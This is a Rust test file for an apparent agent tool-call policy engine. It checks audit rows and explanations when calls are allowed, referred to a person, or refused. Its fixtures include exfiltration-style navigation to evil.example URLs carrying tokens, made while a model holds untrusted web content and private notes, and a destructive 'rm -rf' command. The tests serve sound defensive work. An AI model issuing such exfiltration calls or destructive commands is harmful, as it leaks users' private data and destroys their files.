//! Audit rows and their explanations.

use expect_test::{Expect, expect};
use sabir_policy::{
    Action, Approval, ApprovalMark, ApprovalPolicy, AuditRow, Audited, Decision, Facts, FieldHints,
    Outcome, Ruling, SandboxPolicy, Taint, Verdict, decide, explain,
};
use serde_json::{Value, json};

use super::judging::Turn;

/// LC-G63, LC-G33: the row of a page that was held, without what its address carries.
#[test]
fn a_row_says_where_a_page_would_have_led() {
    let row = Turn::clean()
        .judge("browser.navigate", &json!({ "url": "https://typed.example/a" }))
        .audit("col_1", 1);
    assert_eq!(row.outcome, Outcome::Allow);
    let held = row.led_elsewhere("https://evil.example/p?token=abc", "evil.example", 2);
    assert_eq!((held.outcome, held.approval), (Outcome::Deny, ApprovalMark::NotNeeded));
    assert_eq!((held.reason_code.as_str(), held.at), ("led_elsewhere", 2));
    assert_ne!(held.arguments_digest, row.arguments_digest);
    expect![[r#"
        browser.navigate was refused (call c1 of col_1)
          wanted: url=https://evil.example/p?…
          can at worst: egress, open_world
          the model had read: nothing that is known to be private or a stranger's
          decided by call.led-elsewhere (led_elsewhere): the page leads to a host that this call was not allowed for: evil.example
          what would change it: a call of its own for that address, or a loosening that names that host, too"#]]
    .assert_eq(&explain(&held));
}

/// LC-G32: the row of a call, as it is kept.
#[test]
fn a_row_holds_what_was_known() {
    let row = Turn::tainted()
        .judge(
            "source.capture",
            &json!({ "collectionId": "col_1", "url": "https://evil.example/p?d=1" }),
        )
        .audit("col_1", 1_700_000_000_000);
    let json = serde_json::to_string_pretty(&row).unwrap();
    expect![[r#"
        {
          "call_id": "c1",
          "at": 1700000000000,
          "actor": "col_1",
          "subject": "source.capture",
          "arguments_digest": "f3870828a333e5bf5bc0e3e74e2d22d6fbf1303b8ba2e625c82d43b0b53f65c5",
          "preview": "collectionId=col_1, url=https://evil.example/p?…",
          "labels": {
            "reads_private": false,
            "writes_local": true,
            "egress": true,
            "destructive": false,
            "open_world": true
          },
          "taint": {
            "untrusted": [
              "doc:web:1"
            ]
          },
          "provenance": [
            {
              "argument": "/collectionId",
              "provenance": {
                "from": "invented"
              }
            },
            {
              "argument": "/url",
              "provenance": {
                "from": "invented"
              }
            }
          ],
          "outcome": "ask",
          "rule": "call.invented-url",
          "reason_code": "invented_url",
          "reason": "nobody typed this address and no source links it: the model made it up",
          "approval": "requested"
        }"#]]
    .assert_eq(&json);
    assert_eq!(serde_json::from_str::<AuditRow>(&json).unwrap(), row);
}

fn judge_command(verdict: Verdict, granted: bool) -> Decision {
    decide(&Facts {
        approval: ApprovalPolicy::OnRequest,
        sandbox: &SandboxPolicy::default(),
        action: Action::Command { assessment: verdict, escalated: false },
        granted,
        ruling: Ruling::default(),
    })
}

fn command_row(verdict: Verdict, granted: bool) -> AuditRow {
    let arguments = json!({ "command": ["rm", "-rf", "target"], "cwd": "/w" });
    let audited = Audited {
        call_id: "call_1",
        actor: "session_1",
        subject: "shell",
        arguments: arguments.as_object().unwrap(),
        taint: &Taint::default(),
        sources: &[],
        field: None,
    };
    AuditRow::new(&audited, &judge_command(verdict, granted), 5)
}

/// LC-G32: commands make the same rows, and answers make another.
#[test]
fn commands_are_audited_too() {
    let row = command_row(Verdict::Dangerous, false);
    assert_eq!((row.outcome, row.approval), (Outcome::Ask, ApprovalMark::Requested));
    assert_eq!(row.preview, "command=[rm -rf target], cwd=/w");
    for (mark, outcome) in [
        (ApprovalMark::Approved, Outcome::Allow),
        (ApprovalMark::ApprovedForSession, Outcome::Allow),
        (ApprovalMark::Denied, Outcome::Deny),
        (ApprovalMark::Expired, Outcome::Deny),
        (ApprovalMark::Aborted, Outcome::Deny),
        (ApprovalMark::Unattended, Outcome::Deny),
    ] {
        let answered = row.answered(mark, 9);
        assert_eq!((answered.outcome, answered.approval, answered.at), (outcome, mark, 9));
        assert_eq!(answered.rule, row.rule);
    }
    assert_eq!(command_row(Verdict::Dangerous, true).approval, ApprovalMark::Approved);
    assert_eq!(command_row(Verdict::Safe, false).approval, ApprovalMark::NotNeeded);
}

/// LC-G33: what nobody should read later is not in a row.
#[test]
fn rows_hold_no_secrets() {
    let mut turn = Turn::tainted();
    turn.field = Some(FieldHints { label: Some("PIN"), ..FieldHints::default() });
    let row = |text: &str| {
        turn.judge("browser.type", &json!({ "handleId": "h1", "text": text })).audit("s", 1)
    };
    assert_eq!(row("4711").arguments_digest, row("0815").arguments_digest);
    for (turn, tool, arguments, secret) in [
        (&turn, "browser.type", json!({ "handleId": "h1", "text": "4711" }), "4711"),
        (&Turn::clean(), "search", json!({ "query": "find jo@home.example" }), "jo@home"),
        (
            &Turn::clean(),
            "browser.navigate",
            json!({ "url": "https://a.example/?k=s3cr3t" }),
            "s3cr3t",
        ),
        (
            &Turn::clean(),
            "browser.navigate",
            json!({ "url": "https://a.example/#s3cr3t" }),
            "s3cr3t",
        ),
    ] {
        let row = serde_json::to_string(&turn.judge(tool, &arguments).audit("s", 1)).unwrap();
        assert!(!row.contains(secret), "{row}");
    }
    let long = Turn::clean().judge("artifact.save", &json!({ "markdown": "long ".repeat(9_000) }));
    assert!(long.audit("s", 1).preview.chars().count() < 100);
    let hidden = Turn::clean().judge("artifact.save", &json!({ "title": "a\u{1b}[2Jb\nc" }));
    assert_eq!(hidden.audit("s", 1).preview, "title=a[2Jb c");
}

/// LC-G34: why, in words.
#[test]
fn a_row_is_explained() {
    let check = |row: &AuditRow, expect: Expect| expect.assert_eq(&explain(row));
    let url = json!({ "url": "https://evil.example/?d=1" });
    let mut turn = Turn::tainted();
    let asked = turn.judge("browser.navigate", &url);
    check(
        &asked.audit("col_1", 1),
        expect![[r#"
        browser.navigate was asked for (call c1 of col_1)
          wanted: url=https://evil.example/?…
          can at worst: egress, open_world
          the model had read: what strangers wrote (doc:web:1)
          url was made up by the model
          decided by call.invented-url (invented_url): nobody typed this address and no source links it: the model made it up
          a person was asked
          what would change it: a person's yes, or an address that the user typed or a source links"#]],
    );
    let mut approval = Approval::new(asked.binding, 0);
    let approved = asked.approve(&mut approval, 1).unwrap();
    check(
        &approved.audit("col_1", 2),
        expect![[r#"
        browser.navigate was allowed (call c1 of col_1)
          wanted: url=https://evil.example/?…
          can at worst: egress, open_world
          the model had read: what strangers wrote (doc:web:1)
          url was made up by the model
          decided by call.invented-url (invented_url): nobody typed this address and no source links it: the model made it up; a person approved it
          a person said yes to this very action
          what would change it: a person's no"#]],
    );
    turn.taint.private.insert("note_1".to_owned());
    check(
        &turn.judge("browser.navigate", &url).audit("col_1", 1),
        expect![[r#"
        browser.navigate was refused (call c1 of col_1)
          wanted: url=https://evil.example/?…
          can at worst: egress, open_world
          the model had read: what strangers wrote (doc:web:1) and private content (note_1)
          url was made up by the model
          decided by call.exfiltration (private_data_exposed): private content and content of strangers are in the context, and this call sends something out
          what would change it: a person's yes to this very call, or a context without the private or without the untrusted content"#]],
    );
    check(
        &command_row(Verdict::Dangerous, false).answered(ApprovalMark::Denied, 2),
        expect![[r#"
        shell was refused (call call_1 of session_1)
          wanted: command=[rm -rf target], cwd=/w
          can at worst: reads_private, writes_local, destructive
          the model had read: nothing that is known to be private or a stranger's
          decided by exec.dangerous (dangerous_command): this command destroys what cannot be brought back
          a person said no
          what would change it: a person's yes, or a command that does not destroy"#]],
    );
    let nothing =
        Turn::clean().judge("transform.list_types", &Value::Object(serde_json::Map::new()));
    check(
        &nothing.audit("col_1", 1),
        expect![[r#"
        transform.list_types was allowed (call c1 of col_1)
          wanted: nothing
          can at worst: nothing
          the model had read: nothing that is known to be private or a stranger's
          decided by call.reads (call_reads_only): it changes nothing and sends nothing out
          what would change it: nothing: it changes nothing and sends nothing out"#]],
    );
}
